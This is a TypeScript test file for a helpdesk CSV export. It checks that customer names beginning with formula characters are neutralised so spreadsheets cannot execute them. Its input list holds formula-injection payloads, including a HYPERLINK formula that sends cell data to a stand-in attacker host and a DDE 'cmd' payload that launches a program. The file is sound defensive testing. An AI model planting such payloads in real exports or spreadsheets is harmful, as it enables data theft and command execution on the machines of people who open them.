import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { storePast } from '../../../core/analytics/history.fixture.ts';
import type { CountedRequest } from '../../../core/analytics/listCounted.ts';
import type { Page } from '../env.ts';
import { openConsole, type TestConsole } from '../testing/openConsole.ts';
import { textsIn } from '../texts.ts';
import { EXPORT_LIMIT, exportCsv } from './exportCsv.ts';

/** What spreadsheets take for formulas, and what breaks lines and cells. */
const CORPUS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '"=1+1"',
  '";=1+1;"',
  'Иванов;=1+1',
  'Иванов\n=1+1',
  'Иванов\r\n=1+1',
];
const QUERY = 'from=2025-06-02&to=2025-06-02';

let house: TestConsole;
beforeAll(async () => {
  house = await openConsole();
  for (const [index, customer] of CORPUS.entries()) {
    const at = `2025-06-02T10:${String(index).padStart(2, '0')}:00+03:00`;
    await storePast(house.db, { at, customer, incident: { agent: 'anna' } });
  }
});
afterAll(() => house.close());

/** Cells as a spreadsheet reads them (RFC 4180). */
function readCsv(text: string, delimiter: string): string[][] {
  const rows: string[][] = [[]];
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"${delimiter}\\r\\n]*))(${delimiter}|\\r\\n|$)`, 'gy');
  for (let match = cell.exec(text); match && match.index < text.length; match = cell.exec(text)) {
    rows.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

describe('the export', () => {
  test('opens in Russian Excel, with no cell that could be a formula', async () => {
    const response = await (await house.visit('vera')).get(`/showcase/export.csv?figure=registered&${QUERY}`);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="helpdesk-registered-2025-06-02-2025-06-02.csv"',
    );
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = readCsv(bytes.subarray(3).toString(), ';');
    expect(rows).toHaveLength(CORPUS.length + 1);
    expect(rows[0]?.slice(0, 3)).toEqual(['Номер', 'Поступило', 'Первый ответ']);
    const [names, phones] = ['Клиент', 'Телефон'].map((name) => rows[0]?.indexOf(name) ?? -1);
    for (const row of rows.slice(1)) {
      expect(row).toHaveLength(rows[0]?.length ?? 0);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      expect(row[phones ?? -1]).toBe("'+79160000007");
    }
    const written = rows.slice(1).map((row) => row[names ?? -1]);
    const safe = CORPUS.map((name) => (/^[=+\-@\t\r＝＋－＠]/.test(name) ? `'${name}` : name));
    expect(written).toEqual(safe.toReversed());
  });

  test('speaks English with commas', async () => {
    const visitor = await house.visit('vera');
    visitor.cookies.set('lang', 'en');
    const text = await visitor.read(`/showcase/export.csv?figure=registered&${QUERY}`);
    const rows = readCsv(text.replace('\ufeff', ''), ',');
    expect(rows[0]?.slice(0, 3)).toEqual(['Number', 'Registered', 'First answer']);
    expect(rows[1]?.[1]).toBe('2025-06-02 10:16');
  });

  test('holds exactly what its list holds, and leaves a trace', async () => {
    await sql`delete from sighting`.execute(house.db);
    const text = await (await house.visit('vera')).read(`/showcase/export.csv?figure=closed&${QUERY}`);
    expect(readCsv(text, ';')).toHaveLength(1);
    const seen = await house.db.selectFrom('sighting').select(['actor', 'subject', 'via']).execute();
    expect(seen).toEqual([
      { actor: 'vera', subject: `export:showcase?figure=closed&${QUERY}`, via: 'console' },
    ]);
  });
});

describe('a long export', () => {
  const page = { t: textsIn('ru'), language: 'ru' } as Page;
  const request: CountedRequest = {
    id: '',
    number: 'SR-000001',
    status: 'IN_PROGRESS',
    closeReason: null,
    channel: 'sms',
    customerName: null,
    phone: null,
    phoneKind: 'none',
    serviceId: null,
    serviceName: null,
    serviceNameEn: null,
    workGroupId: null,
    assigneeName: null,
    incidentNumber: null,
    createdAt: new Date(0),
    answeredAt: null,
    closedAt: null,
    dueAt: null,
    breachedAt: null,
    rating: null,
    seconds: null,
  };

  test('is read no faster than it is taken, and no further than somebody takes it', async () => {
    let batches = 0;
    let ended = false;
    async function* endless() {
      try {
        for (;;) {
          batches += 1;
          yield Array.from({ length: 500 }, () => request);
        }
      } finally {
        ended = true;
      }
    }
    const reader = exportCsv(endless(), { page, zone: 'UTC', cut: false }).getReader();
    for (let chunk = 0; chunk < 20; chunk += 1) await reader.read();
    await new Promise((resolve) => setImmediate(resolve));
    expect(batches).toBeLessThan(10);
    await reader.cancel();
    await expect.poll(() => ended).toBe(true);
  });

  test('says where it was cut', async () => {
    async function* one() {
      yield [request];
    }
    const text = await new Response(exportCsv(one(), { page, zone: 'UTC', cut: true })).text();
    expect(text).toContain(`Выгружены первые ${EXPORT_LIMIT} строк`);
  });

  test('that fails midway is no whole file', async () => {
    async function* broken() {
      yield [request];
      throw new Error('the store went away');
    }
    const stream = exportCsv(broken(), { page, zone: 'UTC', cut: false });
    await expect(new Response(stream).text()).rejects.toThrow('the store went away');
  });
});
